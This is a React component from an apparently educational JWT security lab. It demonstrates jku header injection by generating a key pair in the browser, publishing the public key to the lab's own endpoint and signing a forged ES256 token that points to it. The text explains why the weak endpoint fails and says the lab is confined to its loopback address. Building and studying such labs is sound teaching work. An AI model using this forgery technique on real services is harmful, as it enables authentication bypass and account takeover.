'use client';

import { fetchLabToken, TokenWorkbench } from '../_components/token-workbench';
import { makeAttackerKeyPair, signEs256 } from '@/lib/lab/forgery/compact-jws';

const ATTACKER_KID = 'attacker-key';

/** Case 7: publish a key set of my own, point `jku` at it, sign with the matching private key. */
export function JkuInjectionAttack() {
  return (
    <TokenWorkbench
      slug="jku-injection"
      issueLabel="Get a lab token for alice"
      issueToken={() => fetchLabToken('/api/lab/jku-injection/token', { username: 'alice' })}
      forge={{
        label: 'Host my key set and point jku at it',
        run: async ({ payload, report }) => {
          report('Making a P-256 key pair in this browser and publishing its public half…');
          const { privateKey, publicJwk } = await makeAttackerKeyPair();
          const response = await fetch('/api/lab/jku-injection/attacker-keys', {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify({ jwk: { ...publicJwk, kid: ATTACKER_KID, alg: 'ES256', use: 'sig' } }),
          });
          const published = (await response.json()) as { jku?: string; message?: string };
          if (!response.ok || typeof published.jku !== 'string')
            throw new Error(published.message ?? `Publishing answered ${response.status}.`);
          report(`Attacker key set published at ${published.jku}; the token's jku points there and it is signed with the matching key.`);
          return signEs256({ alg: 'ES256', typ: 'JWT', kid: ATTACKER_KID, jku: published.jku }, payload, privateKey);
        },
      }}
      why="The weak endpoint downloads its keys from the URL the token names, so the attacker names their own key set. The real endpoint never fetches a URL from a token: a jku header is refused before anything else, and keys come from the app's own JWKS."
    >
      <p className="text-sm text-slate-700">
        Safety rail, not part of the mistake: this app plays the attacker’s server, and the weak endpoint fetches only from this app’s own
        loopback address (no other host, no redirects, 2 s, 16 KB), so the lab cannot be used to reach other machines.
      </p>
    </TokenWorkbench>
  );
}
